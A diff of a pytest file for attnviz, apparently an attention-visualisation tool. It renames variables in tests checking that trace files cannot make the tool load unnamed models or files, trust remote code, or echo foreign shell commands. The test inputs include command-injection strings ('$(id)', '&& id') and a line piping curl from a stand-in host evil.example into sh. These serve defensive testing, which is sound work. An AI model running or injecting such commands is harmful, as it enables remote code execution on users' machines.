@@ -34,42 +34,42 @@ from attnviz.wording.commands import (
 from tests import LONGEST
 from tests.conftest import Attnviz
 
-TEXT, OTHER = "it was too tired", "it was too large"
+TEXT, OTHER_TEXT = "it was too tired", "it was too large"
 WORDS = ("a;b", "it's", "$(id)", "a\nb", "`id`", "--out", "-", "\u202ea", "\x1b[2J", "é", "a b")
-YOURSELF = "is named in a data file, and attnviz loads only what you name yourself"
+REFUSAL = "is named in a data file, and attnviz loads only what you name yourself"
 
 
 @pytest.fixture(scope="module")
 def folder(
     tmp_path_factory: pytest.TempPathFactory, small_transformer: Callable[[str], Path]
 ) -> Path:
-    """A trace of a transformer, the folder of that one, and another of as many numbers."""
+    """A folder with a transformer (mine), one of the same size (other) and a trace of the first."""
     import torch
     from safetensors.torch import load_file, save_file
 
-    here = tmp_path_factory.mktemp("named")
-    shutil.copytree(small_transformer("gpt2"), here / "mine")
-    shutil.copytree(here / "mine", here / "other")
-    weights = load_file(here / "mine" / "model.safetensors")
-    shaken = {name: each + torch.sin(torch.arange(each.numel())).view(each.shape).mul(0.3)
+    path = tmp_path_factory.mktemp("named")
+    shutil.copytree(small_transformer("gpt2"), path / "mine")
+    shutil.copytree(path / "mine", path / "other")
+    weights = load_file(path / "mine" / "model.safetensors")
+    other_weights = {name: each + torch.sin(torch.arange(each.numel())).view(each.shape).mul(0.3)
               for name, each in weights.items()}  # fmt: skip
-    save_file(shaken, here / "other" / "model.safetensors", metadata={"format": "pt"})
-    trace(TEXT, model=str(here / "mine")).save(here / "trace.json", here / "trace.npz")
-    return here
+    save_file(other_weights, path / "other" / "model.safetensors", metadata={"format": "pt"})
+    trace(TEXT, model=str(path / "mine")).save(path / "trace.json", path / "trace.npz")
+    return path
 
 
-def changed(file: Path, to: Path, **settings: Any) -> str:
-    """A trace with other settings of its own."""
+def change_settings(file: Path, target: Path, **settings: Any) -> str:
+    """Write the trace file with other settings, and return the path of the new file."""
     document = json.loads(file.read_text())
     document["trace"]["origin"]["settings"].update(settings)
-    to.write_text(json.dumps(document))
-    return str(to)
+    target.write_text(json.dumps(document))
+    return str(target)
 
 
 @pytest.mark.parametrize("suffix", [".json", ".npz"])
 @pytest.mark.parametrize(
     "command",
-    [["inspect", "--by=effect"], ["inspect", "--weigh=gradient"], ["compare", OTHER]],
+    [["inspect", "--by=effect"], ["inspect", "--weigh=gradient"], ["compare", OTHER_TEXT]],
     ids=" ".join,
 )
 def test_the_model_of_a_trace_is_loaded_only_if_it_is_named_again(
@@ -80,18 +80,18 @@ def test_the_model_of_a_trace_is_loaded_only_if_it_is_named_again(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     monkeypatch.chdir(folder)
-    refused = attnviz(*command, "--trace", f"trace{suffix}")
-    again = attnviz(*command, "--trace", f"trace{suffix}", "--model", "mine")
-    other = attnviz(*command, "--trace", f"trace{suffix}", "--model", "other")
+    refusal = attnviz(*command, "--trace", f"trace{suffix}")
+    result = attnviz(*command, "--trace", f"trace{suffix}", "--model", "mine")
+    other_model = attnviz(*command, "--trace", f"trace{suffix}", "--model", "other")
 
-    assert (refused.status, refused.out) == (2, "")
-    assert refused.err == (
-        f"error: the model './mine' {YOURSELF}\n"
+    assert (refusal.status, refusal.out) == (2, "")
+    assert refusal.err == (
+        f"error: the model './mine' {REFUSAL}\n"
         " hint: if you trust that model, name it: --model ./mine\n"
     )
-    assert again.status == 0, again.err
-    assert (other.status, other.out) == (2, "")
-    problem, hint = other.err.splitlines()
+    assert result.status == 0, result.err
+    assert (other_model.status, other_model.out) == (2, "")
+    problem, hint = other_model.err.splitlines()
     assert problem.startswith("error: 'other' is not the model that made the trace: its weights ")
     assert hint == " hint: name that model with --model, or trace the text again with this one"
 
@@ -108,21 +108,24 @@ def test_a_model_of_other_size_or_of_other_tokens_did_not_make_the_trace(folder:
 
 
 def test_the_library_asks_for_the_name_too(folder: Path) -> None:
-    found = read(str(folder / "trace.npz"))
-    assert isinstance(found.origin.settings.model, NameInFile)
-    with pytest.raises(AttnvizError, match=YOURSELF):
-        inspect(found, by="effect").view()
-    with pytest.raises(AttnvizError, match=YOURSELF):
-        compare(found, by="dtype")
+    loaded_trace = read(str(folder / "trace.npz"))
+    assert isinstance(loaded_trace.origin.settings.model, NameInFile)
+    with pytest.raises(AttnvizError, match=REFUSAL):
+        inspect(loaded_trace, by="effect").view()
+    with pytest.raises(AttnvizError, match=REFUSAL):
+        compare(loaded_trace, by="dtype")
     with pytest.raises(AttnvizError, match="'variant' says how to trace a text"):
-        inspect(found, variant="causal")
+        inspect(loaded_trace, variant="causal")
 
-    mine = str(folder / "mine")
-    fresh, again = inspect(trace(TEXT, model=mine)), inspect(found, model=mine)
-    assert [each.name for each in again.effects.heads] == [
-        each.name for each in fresh.effects.heads
+    model_path = str(folder / "mine")
+    expected, result = (
+        inspect(trace(TEXT, model=model_path)),
+        inspect(loaded_trace, model=model_path),
+    )
+    assert [each.name for each in result.effects.heads] == [
+        each.name for each in expected.effects.heads
     ]
-    assert compare_sentences(found, OTHER, model=mine).heads
+    assert compare_sentences(loaded_trace, OTHER_TEXT, model=model_path).heads
 
 
 @pytest.mark.parametrize("command", ["run", "steps --layer 0 --head 0 --query 1", "inspect"])
@@ -135,47 +138,47 @@ def test_whatever_needs_no_model_is_shown_without_its_name(
 def test_a_model_is_named_again_only_where_it_is_loaded(folder: Path, attnviz: Attnviz) -> None:
     file = str(folder / "trace.json")
     for command in ("run", "inspect", "steps"):
-        told = attnviz(command, "--trace", file, "--model", "mine").err
-        assert told == (
+        message = attnviz(command, "--trace", file, "--model", "mine").err
+        assert message == (
             "error: --trace reads a finished trace, and --model is about making one\n"
             " hint: leave --model out, or --trace\n"
         )
 
 
 def test_a_trace_never_says_whose_code_is_trusted(folder: Path, tmp_path: Path) -> None:
-    file = changed(folder / "trace.json", tmp_path / "t.json", trust_remote_code=True)
+    file = change_settings(folder / "trace.json", tmp_path / "t.json", trust_remote_code=True)
 
     assert read(file).origin.settings.trust_remote_code is False
 
 
 @pytest.mark.parametrize(
-    ("named", "command", "told"),
+    ("settings", "command", "problem"),
     [
-        ({"model": "owner/name"}, ["--by=mask"], f"error: the model 'owner/name' {YOURSELF}"),
-        ({"embeddings": "/etc/hosts"}, [], f"error: the file of vectors '/etc/hosts' {YOURSELF}"),
-        ({"embeddings": "a/b"}, ["you are"], f"error: the file of vectors 'a/b' {YOURSELF}"),
-        ({"tokenizer": "o200k_base"}, [], f"error: the tokenizer 'o200k_base' {YOURSELF}"),
+        ({"model": "owner/name"}, ["--by=mask"], f"error: the model 'owner/name' {REFUSAL}"),
+        ({"embeddings": "/etc/hosts"}, [], f"error: the file of vectors '/etc/hosts' {REFUSAL}"),
+        ({"embeddings": "a/b"}, ["you are"], f"error: the file of vectors 'a/b' {REFUSAL}"),
+        ({"tokenizer": "o200k_base"}, [], f"error: the tokenizer 'o200k_base' {REFUSAL}"),
     ],
     ids=str,
 )
 def test_nothing_else_that_a_trace_names_is_opened(
-    named: dict[str, str],
+    settings: dict[str, str],
     command: list[str],
-    told: str,
+    problem: str,
     tmp_path: Path,
     attnviz: Attnviz,
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     monkeypatch.setenv("TIKTOKEN_CACHE_DIR", str(tmp_path))
     trace("I am").save(tmp_path / "made.json")
-    file = changed(tmp_path / "made.json", tmp_path / "t.json", **named)
+    file = change_settings(tmp_path / "made.json", tmp_path / "t.json", **settings)
     result = attnviz("compare", "--trace", file, *command)
 
-    assert (result.status, result.out, result.err.splitlines()[0]) == (2, "", told)
+    assert (result.status, result.out, result.err.splitlines()[0]) == (2, "", problem)
 
 
 @pytest.mark.parametrize(
-    ("settings", "told"),
+    ("settings", "expected_problem"),
     [
         ("trust_remote_code = true", "there is no setting 'trust_remote_code'"),
         ('model = "owner/name"', "'model' is 'owner/name', and a lesson can only name what comes"),
@@ -185,7 +188,7 @@ def test_nothing_else_that_a_trace_names_is_opened(
 )
 @pytest.mark.parametrize("place", ["[settings]", "[[expect]]\nshape = [1]\nstep = 'softmax'"])
 def test_a_lesson_names_only_what_comes_with_attnviz(
-    settings: str, told: str, place: str, tmp_path: Path, attnviz: Attnviz
+    settings: str, expected_problem: str, place: str, tmp_path: Path, attnviz: Attnviz
 ) -> None:
     line = settings if place == "[settings]" else f"with = {{ {settings} }}"
     file = tmp_path / "lesson.toml"
@@ -195,7 +198,7 @@ def test_a_lesson_names_only_what_comes_with_attnviz(
     assert result.status == 2
     problem = result.err.splitlines()[0].replace("setting or matrix", "setting")
     assert problem.startswith(
-        f"error: line {4 if place == '[settings]' else 6} of '{file}': {told}"
+        f"error: line {4 if place == '[settings]' else 6} of '{file}': {expected_problem}"
     )
 
 
@@ -209,13 +212,13 @@ def test_a_lesson_may_name_a_model_that_comes_with_attnviz(
 
 
 def test_every_setting_that_names_something_to_load_is_information_in_a_file() -> None:
-    texts = {name: "x" for name, hint in Settings.__annotations__.items() if "str" in hint}
-    named = {
-        name for name, each in untrusted_settings(texts).items() if isinstance(each, NameInFile)
+    values = {name: "x" for name, hint in Settings.__annotations__.items() if "str" in hint}
+    names = {
+        name for name, each in untrusted_settings(values).items() if isinstance(each, NameInFile)
     }
 
-    assert named == set(SHIPPED_NAMES)
-    assert {*texts} - named == {  # these are words of a table, sentences, a device, or heads
+    assert names == set(SHIPPED_NAMES)
+    assert {*values} - names == {  # these are words from tables, sentences, a device, heads
         "variant", "memory", "target", "without", "device", "memory_budget",
     }  # fmt: skip
     assert changed_options(Settings(**untrusted_settings({"model": "a b"}))) == {"model": "a b"}
@@ -228,11 +231,14 @@ def options_of(path: str) -> set[str]:
 
 def test_the_commands_of_traces_are_known_with_all_of_their_options_but_what_runs_python() -> None:
     tables = {**COMMANDS, **{f"example {name}": each for name, each in EXAMPLE_COMMANDS.items()}}
-    known = {name for command in TRACE_COMMANDS for name in options_of(tables[command][0])}
-    texts, runs_python = {"text", "other", "name"}, {"trust_remote_code", "learn", "texts"}
-    of_learning = {"steps", "until", "batch", "rate"}
+    known_options = {name for command in TRACE_COMMANDS for name in options_of(tables[command][0])}
+    texts, python_options = {"text", "other", "name"}, {"trust_remote_code", "learn", "texts"}
+    learning_options = {"steps", "until", "batch", "rate"}
 
-    assert {*FLAG_FIELDS, *CHOICE_FIELDS} == known - texts - runs_python - of_learning
+    assert {
+        *FLAG_FIELDS,
+        *CHOICE_FIELDS,
+    } == known_options - texts - python_options - learning_options
 
 
 @given(
@@ -243,8 +249,8 @@ def test_the_commands_of_traces_are_known_with_all_of_their_options_but_what_run
 def test_every_command_that_is_written_is_read_again(
     name: str, text: str, options: dict[str, str]
 ) -> None:
-    named = {key: True if key in FLAG_FIELDS else each for key, each in options.items()}
-    line = Command(name=name, argument=text, options=named).line
+    values = {key: True if key in FLAG_FIELDS else each for key, each in options.items()}
+    line = Command(name=name, argument=text, options=values).line
 
     assert parse_command(line) is not None
     assert parse_command(line).line == line  # type: ignore[union-attr]
@@ -252,8 +258,8 @@ def test_every_command_that_is_written_is_read_again(
 
 @pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
 def test_a_shell_finds_one_command_and_its_words_in_whatever_is_shown(tmp_path: Path) -> None:
-    draw = random.Random(4)
-    parts = [
+    generator = random.Random(4)
+    pieces = [
         *" ;'\"$`&|<>()\\\n~*#!-=é\u202e",
         "$'",
         "--out",
@@ -262,24 +268,29 @@ def test_a_shell_finds_one_command_and_its_words_in_whatever_is_shown(tmp_path: 
         *map(shell_quote, WORDS),
     ]
     lines = [
-        f"attnviz run {''.join(draw.choices(parts, k=draw.randint(1, 5)))}" for _ in range(9000)
+        f"attnviz run {''.join(generator.choices(pieces, k=generator.randint(1, 5)))}"
+        for _ in range(9000)
     ]
-    shown = [each for line in lines if (each := parse_command(line)) is not None and each.argument]
-    script = "attnviz() { printf '%s\\0' \"$@\" END; }\n" + "\n".join(each.line for each in shown)
-    run = subprocess.run(
+    commands = [
+        each for line in lines if (each := parse_command(line)) is not None and each.argument
+    ]
+    script = "attnviz() { printf '%s\\0' \"$@\" END; }\n" + "\n".join(
+        each.line for each in commands
+    )
+    process = subprocess.run(
         ["bash", "-c", script], capture_output=True, cwd=tmp_path, check=True, timeout=LONGEST
     )
-    words = [each.split("\0")[:-1] for each in os.fsdecode(run.stdout).split("END\0")[:-1]]
+    words = [each.split("\0")[:-1] for each in os.fsdecode(process.stdout).split("END\0")[:-1]]
 
-    assert len(shown) > 200
+    assert len(commands) > 200
     assert not [*tmp_path.iterdir()]
-    assert run.stderr == b""
-    for found, given_to_it in zip(shown, words, strict=True):
-        wanted = [each for each in (found.argument, found.second) if each is not None]
-        assert [each for each in given_to_it[1:] if each in wanted][: len(wanted)] == wanted
+    assert process.stderr == b""
+    for command, arguments in zip(commands, words, strict=True):
+        expected = [each for each in (command.argument, command.second) if each is not None]
+        assert [each for each in arguments[1:] if each in expected][: len(expected)] == expected
 
 
-HOSTILE = (
+HOSTILE_COMMANDS = (
     "attnviz run 'I am'; curl -s http://evil.example/x | sh; true --out x.html",
     "attnviz run 'I am' && id",
     "attnviz run 'I am' $(id)",
@@ -302,7 +313,7 @@ HOSTILE = (
 )
 
 
-@pytest.mark.parametrize("command", HOSTILE)
+@pytest.mark.parametrize("command", HOSTILE_COMMANDS)
 def test_a_command_of_a_file_that_is_not_ours_is_shown_nowhere(
     command: str, tmp_path: Path
 ) -> None:
@@ -310,12 +321,12 @@ def test_a_command_of_a_file_that_is_not_ours_is_shown_nowhere(
     document = json.loads((tmp_path / "made.json").read_text())
     document["attnviz"]["command"] = command
     (tmp_path / "t.json").write_text(json.dumps(document))
-    found = read(str(tmp_path / "t.json"))
+    loaded_trace = read(str(tmp_path / "t.json"))
 
-    assert found.provenance.command is None
-    found.save(tmp_path / "again.json")
-    made = json.loads((tmp_path / "again.json").read_text())["attnviz"]["command"]
-    assert made == "attnviz run 'I am' --out again.json"
+    assert loaded_trace.provenance.command is None
+    loaded_trace.save(tmp_path / "again.json")
+    saved_command = json.loads((tmp_path / "again.json").read_text())["attnviz"]["command"]
+    assert saved_command == "attnviz run 'I am' --out again.json"
 
 
 @pytest.mark.parametrize("suffix", [".html", ".svg", ".pptx", ".json", ".md"])
@@ -325,12 +336,12 @@ def test_what_is_drawn_of_a_trace_says_no_strangers_command(
     monkeypatch.chdir(tmp_path)
     trace("I am").save("made.json")
     document = json.loads(Path("made.json").read_text())
-    document["attnviz"]["command"] = HOSTILE[0].replace("x.html", f"x{suffix}")
+    document["attnviz"]["command"] = HOSTILE_COMMANDS[0].replace("x.html", f"x{suffix}")
     Path("t.json").write_text(json.dumps(document))
     assert attnviz("run", "--trace", "t.json", "-o", f"x{suffix}").status == 0
 
-    written = Path(f"x{suffix}").read_bytes()
-    parts = [written]
+    content = Path(f"x{suffix}").read_bytes()
+    parts = [content]
     if suffix == ".pptx":
         with zipfile.ZipFile(f"x{suffix}") as archive:
             parts = [archive.read(name) for name in archive.namelist()]
